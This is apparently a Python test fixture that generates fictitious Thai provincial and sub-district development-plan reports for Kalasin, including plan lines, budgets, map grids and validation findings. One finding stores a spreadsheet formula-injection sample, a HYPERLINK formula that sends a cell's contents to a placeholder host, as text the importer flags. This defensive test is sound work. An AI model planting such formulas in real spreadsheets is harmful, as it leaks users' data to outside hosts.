"""Made-up reports for tests, trials and the benchmark: fixed figures, real-looking Thai, no real rows."""

import datetime as dt
from itertools import count, cycle, islice

from prasan.cycles.queries import CalendarStep
from prasan.publishing.funnels import NeedFunnel
from prasan.publishing.parts import (
    ConflictLine,
    Counts,
    HandoverLine,
    InputFile,
    MapArea,
    PairLine,
    PairSide,
    Part,
    Plan,
    PlanLine,
    ProvinceReport,
    Reconciliation,
    ReportFinding,
    Source,
    Sums,
    summed_by_year,
)

FISCAL_YEAR = 2569
DISTRICTS = (
    ("4601", "เมืองกาฬสินธุ์"), ("4602", "นามน"), ("4603", "กมลาไสย"), ("4604", "ร่องคำ"),
    ("4605", "กุฉินารายณ์"), ("4607", "ยางตลาด"), ("4611", "ท่าคันโท"), ("4615", "สามชัย"),
)  # fmt: skip
WORKS = (
    "ก่อสร้างถนนคอนกรีตเสริมเหล็กสายบ้านหนองบัวน้อย – บ้านโนนสูง หมู่ที่ {n} กว้าง 4 เมตร ยาว 1,250 เมตร หนา 0.15 เมตร",
    "ขุดลอกลำห้วยผึ้งพร้อมก่อสร้างฝายน้ำล้นเพื่อเก็บกักน้ำไว้ใช้ในฤดูแล้ง หมู่ที่ {n}",
    "ปรับปรุงระบบผลิตน้ำประปาหมู่บ้านให้ได้มาตรฐานน้ำดื่มสะอาด บ้านกุดหว้า",
    "ส่งเสริมกลุ่มอาชีพทอผ้าไหมแพรวาและผู้สูงอายุที่อยู่ตามลำพัง",
    "ติดตั้งโคมไฟฟ้าส่องสว่างพลังงานแสงอาทิตย์ชนิด LED ขนาดไม่น้อยกว่า 60 วัตต์ จำนวน 25 ต้น",
    "ก่อสร้างอาคารศูนย์พัฒนาเด็กเล็ก สถ.ศพด. 2 ขนาด 51–80 คน องค์การบริหารส่วนตำบลหนองแวงใต้",
)
PROGRAMMES = (
    ("โครงสร้างพื้นฐานและการขนส่ง", "แผนงานอุตสาหกรรมและการโยธา"),
    ("การบริหารจัดการน้ำ", "แผนงานการเกษตร"),
    ("การบริหารจัดการน้ำ", "แผนงานเคหะและชุมชน"),
    ("คุณภาพชีวิตและเศรษฐกิจฐานราก", "แผนงานสร้างความเข้มแข็งของชุมชน"),
    ("โครงสร้างพื้นฐานและการขนส่ง", "แผนงานเคหะและชุมชน"),
    ("คุณภาพชีวิตและเศรษฐกิจฐานราก", "แผนงานการศึกษา"),
)
AMOUNTS = (250_000_000, 48_650_050, 1_234_500_000, None, 99_900_000, 7_575)


def make_items(number: int, *, first: int = 0, owner: str = "อบต.หนองแวงใต้") -> tuple[PlanLine, ...]:
    """Give so many plan lines, the same for the same arguments."""
    kinds = cycle(zip(WORKS, PROGRAMMES, AMOUNTS, strict=True))
    lines = []
    for position, (work, (guideline, programme), satang) in zip(count(1), islice(kinds, number), strict=False):
        code, district = DISTRICTS[(first + position) % len(DISTRICTS)]
        serial = first + position
        lines.append(
            PlanLine(
                priority=position,
                code=f"P46-69-{serial:05}",
                name=work.format(n=serial % 17 + 1),
                owner=owner,
                area_code=f"{code}01",
                area_name=f"อำเภอ{district}",
                district_code=code,
                district_name=district,
                place=f"หมู่ที่ {serial % 17 + 1} ต.หนองแวง อ.{district}",
                guideline=guideline,
                programme=programme,
                amount_satang=satang,
                by_year={} if satang is None else {FISCAL_YEAR: satang, FISCAL_YEAR + 1: satang // 2 * 2},
                source=Source("แผนพัฒนาท้องถิ่น ผ.02 หนองแวงใต้.xlsx", "4.1 แผนงานอุตสาหกรรม", serial + 9),
            )
        )
    return tuple(lines)


def make_plans(items_each: int = 6, laos: int = 3) -> tuple[Plan, ...]:
    """Give plans of all four levels; the higher ones repeat items of the lower ones, as in life."""
    bodies = [f"องค์การบริหารส่วนตำบลหนองแวง{name}" for name in ("ใต้", "เหนือ", "กลาง", "ตะวันออก")]
    local = [
        Plan("LOCAL_PLAN", f"{bodies[n % 4]} {n // 4 + 1}", FISCAL_YEAR, make_items(items_each, first=n * 1000))
        for n in range(laos)
    ]
    village = Plan("VILLAGE_PLAN", "บ้านโนนสูง หมู่ที่ 7", FISCAL_YEAR, make_items(4, first=90000, owner="กม. บ้านโนนสูง"))
    empty = Plan("VILLAGE_PLAN", "บ้านกุดหว้า หมู่ที่ 2", FISCAL_YEAR)
    district = Plan("DISTRICT_NEEDS_PLAN", "อำเภอยางตลาด", FISCAL_YEAR, local[0].items[:3] if local else ())
    top = local[0].items[:2] if local else ()
    province = Plan("PROVINCIAL_ANNUAL_ACTION_PLAN", "จังหวัดกาฬสินธุ์", FISCAL_YEAR, top, state="SUBMITTED")
    return (province, district, *local, village, empty)


def make_steps() -> tuple[CalendarStep, ...]:
    return (
        CalendarStep("1", "VILLAGE", "จัดเวทีประชาคมและทบทวนแผนหมู่บ้าน", "Village forums",
                     dt.date(2025, 1, 1), dt.date(2025, 4, 1), "S"),
        CalendarStep("2", "LAO", "จัดทำและประสานแผนพัฒนาท้องถิ่น", "Local plans",
                     dt.date(2025, 3, 1), dt.date(2025, 7, 1), "I"),
        CalendarStep("3", "DISTRICT", "บูรณาการแผนความต้องการระดับอำเภอ", "District needs plans",
                     dt.date(2025, 6, 1), dt.date(2025, 9, 16), "S"),
        CalendarStep("4", "PROVINCE", "เสนอแผนปฏิบัติราชการประจำปีของจังหวัด", "Provincial action plan", None, None, "-"),
    )  # fmt: skip


def make_areas(*, boundaries: bool = True) -> tuple[MapArea, ...]:
    """Give eight districts on a small grid: as squares, or as a few points each."""
    areas = []
    for n, (code, name) in enumerate(DISTRICTS):
        x, y = 103.0 + n % 3 * 0.3, 16.2 + n // 3 * 0.3
        ring = [[x, y], [x + 0.3, y], [x + 0.33, y + 0.17], [x + 0.3, y + 0.3], [x, y + 0.3], [x, y]]
        geometry = {"type": "Polygon", "coordinates": [ring]} if boundaries else None
        points = tuple((x + 0.05 + 0.07 * k, y + 0.05 + 0.05 * k * k % 0.2) for k in range(4))
        areas.append(MapArea(code, name, n * 3, n * n * 410_000_000, geometry, () if boundaries else points))
    return tuple(areas)


def make_report(*, items_each: int = 6, laos: int = 3) -> ProvinceReport:
    """Give a whole report whose counts and sums agree with its rows."""
    plans = make_plans(items_each, laos)
    files = tuple(_file(plan) for plan in plans if plan.level in ("LAO", "VILLAGE"))
    rows = sum(file.rows for file in files)
    total = sum(file.total_satang for file in files)
    first, second = (_side(item) for item in plans[2].items[:2])
    return ProvinceReport(
        province_code="46",
        province_name="กาฬสินธุ์",
        fiscal_year=FISCAL_YEAR,
        cycle="moi_2559",
        cycle_name="แนวทางการประสานแผนพัฒนาพื้นที่ กระทรวงมหาดไทย พ.ศ. 2559",
        generated_on=dt.date(2025, 9, 15),
        inputs=files,
        counts=Counts(rows, rows, 0, 0, 4, rows - 4, 1, 1, 2),
        sums=Sums(
            total,
            summed_by_year(file.by_year for file in files),
            {"local_plan_p02": total},
            (
                Reconciliation("amounts", "วงเงินที่อ่านได้", "Amounts read", "satang", total,
                               (Part("ขึ้นทะเบียน", "registered", total), Part("รวม", "merged", 0),
                                Part("ไม่รับ", "refused", 0))),
                Reconciliation("rows", "แถวที่อ่านได้", "Rows read", "rows", rows,
                               (Part("ขึ้นทะเบียน", "registered", rows), Part("รวม", "merged", 0),
                                Part("ไม่รับ", "refused", 0))),
            ),
        ),
        findings=make_findings(),
        handovers=(
            HandoverLine(first.code, first.name, first.area_name, "องค์การบริหารส่วนตำบลหนองแวงใต้",
                         "องค์การบริหารส่วนจังหวัดกาฬสินธุ์", "MONEY", "เกินกำลังงบประมาณของ อบต. และใช้ร่วมกันสองตำบล",
                         "SENT", 1, "อำเภอยางตลาด", first.amount_satang),
        ),
        pairs=(
            PairLine(first, second, 0.9731, "OVERLAP", ("หมู่ที่เดียวกัน", "ชื่อคล้ายกันมาก", "วงเงินต่างกันร้อยละ 4"),
                     ("same village", "very similar names", "amounts differ by 4%")),
        ),
        conflicts=(
            ConflictLine(first, second, "WRONG_ORDER", "POSSIBLE", ("วางท่อประปาให้เสร็จก่อนทำผิวถนน",),
                         ("Water pipes are laid before the road is surfaced",)),
        ),
        plans=plans,
        steps=make_steps(),
        areas=make_areas(),
        today=dt.date(2025, 5, 20),
        needs=NeedFunnel.of(
            (place, item.amount_satang) for place, item in zip(cycle(NeedFunnel.NAMES), plans[-2].items, strict=False)
        ),
    )  # fmt: skip


def make_findings() -> tuple[ReportFinding, ...]:
    file = "แผนพัฒนาท้องถิ่น ผ.02 หนองแวงใต้.xlsx"
    return (
        ReportFinding(file, "4.1 แผนงานอุตสาหกรรม", 12, "E12", "negative_amount", "error",
                      "จำนวนเงิน “(50,000)” ติดลบ โปรดตรวจสอบต้นฉบับ", "The amount “(50,000)” is negative.", "(50,000)"),
        ReportFinding(file, "4.1 แผนงานอุตสาหกรรม", 14, "B14", "formula_like_text", "warning",
                      "ข้อความขึ้นต้นเหมือนสูตร เก็บเป็นข้อความ", "Text that looks like a formula was kept as text.",
                      '=HYPERLINK("http://example.invalid/?x="&B2,"รายละเอียด")'),
    )  # fmt: skip


def _file(plan: Plan) -> InputFile:
    rows = len(plan.items)
    form = "local_plan_p02" if plan.level == "LAO" else "community_needs"
    sha256 = f"{abs(rows * 7919 + len(plan.body)):064x}"
    return InputFile(f"{plan.body}.xlsx", sha256, form, "accept", rows, rows, 0, 0, plan.total_satang, plan.by_year)


def _side(item: PlanLine) -> PairSide:
    return PairSide(item.code, item.name, item.owner, item.area_name, FISCAL_YEAR, item.amount_satang, item.source)
